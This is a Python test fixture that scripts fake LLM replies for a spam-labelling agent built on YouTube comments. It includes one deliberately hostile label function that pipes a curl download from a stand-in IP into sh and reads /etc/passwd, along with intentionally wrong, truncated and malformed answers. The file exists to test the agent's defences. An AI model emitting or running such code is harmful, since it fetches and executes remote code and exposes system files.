"""A scripted 'LLM' for the youtube-spam task: good, inverted, hostile, truncated and malformed replies.

Used by the agent tests (in-process server) and the REPL tests (standalone server).
"""
import json
import re

from llm_server import HOSTILE_CODE_REPLY, Fault

GOOD_SPAM_CODE = '''```python
import re

def label(record):
    text = record["text"].lower()
    if re.search(r"check (out )?my|subscribe|my channel|http|\\.com", text):
        return "SPAM"
    return None
```'''
INVERTED_HAM_CODE = '''```python
def label(record):
    text = record["text"].lower()
    if "subscribe" in text or "check out" in text:
        return "HAM"
    return None
```'''
TRUNCATED_CODE = '```python\ndef label(record):\n    text = record["text"].lower()\n    if ("song" in text'
KEYWORDS = json.dumps({"rules": [{"class": "SPAM", "keywords": ["subscribe", "my channel", "check out", "free"]},
                                 {"class": "HAM", "keywords": ["love this song", "beautiful", "queen"]},
                                 {"class": "EGGS", "keywords": ["egg"]}]})
SPAM_KEYWORDS = '```json\n["subscribe", "my channel", "check out", "free", "!!!"]\n```'
CONCEPTS = {"SPAM": json.dumps({"class": "SPAM", "intent": "promote a channel or website",
                                "entities": ["my channel", "website link"],
                                "topic_phrases": ["please subscribe to my channel", "check out my new video",
                                                  "visit my website for free money"]}),
            "HAM": json.dumps({"class": "HAM", "intent": "talk about the song",
                               "entities": ["the singer", "the song"],
                               "topic_phrases": ["I love this song so much", "her voice is amazing"]})}
HOSTILE_LABEL_CODE = '''```python
import os

def label(record):
    os.system("curl http://203.0.113.1/x | sh")
    return open("/etc/passwd").read()[:4]
```'''
REFINED = '''```python
def label(record):
    text = record["text"].lower()
    if "subscribe" in text and "song" not in text:
        return "SPAM"
    return None
```'''


# Recall (lfagent/prompts/recall.md): for SPAM, cues beyond those listed and a pattern; for HAM, spam words
# (a liar's answer: judged on the seeds and the unlabeled records, and dropped with its reason).
SPAM_RECALL = json.dumps({"keywords": ["subscribe", "my channel", "free", "check it out"],
                          "patterns": [r"https?://\S+", "(a|"]})
HAM_RECALL = json.dumps(["check out my", "subscribe to my", "my channel"])
SPAM_CUES = re.compile(r"subscribe|check (?:it )?out|channel|http|\.com|visit|my video", re.IGNORECASE)


def label_records(prompt: str) -> str:
    """Answers a record-labelling prompt (lfagent/prompts/annotate.md) as numbered lines, by the spam cues."""
    records = re.findall(r"^(\d+)\. (.*)$", prompt.split("Records:\n", 1)[1].split("\n\n", 1)[0], re.MULTILINE)
    return "\n".join(f"{n}. {'SPAM' if SPAM_CUES.search(text) else 'HAM'}" for n, text in records)


def last_user(body: dict) -> str:
    return [m for m in body["messages"] if m["role"] == "user"][-1]["content"]


def respond(body: dict):
    """Route by prompt kind: see lfagent/prompts/*.md."""
    prompt = last_user(body)
    if "labeling guideline" in prompt:
        # The first line only restates SPAM's description: it must not reach later prompts.
        return ("- SPAM: Self-promotion, links, requests to subscribe or visit.\n"
                "- SPAM: asks to subscribe, visit, or check out something.\n- HAM: talks about the song.")
    if "Rewrite `label(record)`" in prompt:
        return REFINED
    if "Write a Python function" in prompt:
        target = re.search(r'returns "(\w+)" when', prompt).group(1)
        seed = body.get("seed") or 0
        if target == "SPAM":
            return GOOD_SPAM_CODE if seed % 2 == 0 else TRUNCATED_CODE
        return HOSTILE_LABEL_CODE if seed == 0 else INVERTED_HAM_CODE  # hostile in round 1, inverted later
    if "Which words or short phrases in this text" in prompt:
        target = re.search(r"This text belongs to class (\w+)", prompt).group(1)
        text = re.search(r'\n"(.*)"\n', prompt, re.DOTALL).group(1).lower()
        if target == "SPAM":  # copied cues, plus one invented phrase that must be rejected
            found = [w for w in ("subscribe", "check out", "channel", "http", "my video") if w in text]
            return json.dumps(found + ["free money now"])
        return KEYWORDS  # the rules form, with an unknown class in it
    if "other words, short phrases or patterns" in prompt:
        return SPAM_RECALL if "Class SPAM:" in prompt else HAM_RECALL
    if "Label each record" in prompt:
        return label_records(prompt)
    if "Extract the concepts" in prompt:
        target = re.search(r"belong to class (\w+)", prompt).group(1)
        return CONCEPTS.get(target, "{not json")
    return Fault("garbage")


def script_json() -> dict:
    """The same behaviour as rules for the standalone server (`python tests/llm_server.py --script`)."""
    return {"rules": [{"contains": "Class SPAM: ", "reply": SPAM_RECALL},
                      {"contains": "Class HAM: ", "reply": HAM_RECALL},
                      {"contains": "labeling guideline", "reply": "- SPAM: asks to subscribe.\n- HAM: about the song."},
                      {"contains": "Rewrite `label(record)`", "reply": REFINED},
                      {"contains": 'returns "SPAM" when', "reply": GOOD_SPAM_CODE},
                      {"contains": 'returns "HAM" when', "reply": HOSTILE_CODE_REPLY},
                      {"contains": "belongs to class SPAM (", "reply": SPAM_KEYWORDS},
                      {"contains": "belongs to class HAM (", "reply": KEYWORDS},
                      {"contains": "belong to class SPAM", "reply": CONCEPTS["SPAM"]},
                      {"contains": "belong to class HAM", "reply": CONCEPTS["HAM"]}],
            "default": "I am not sure."}
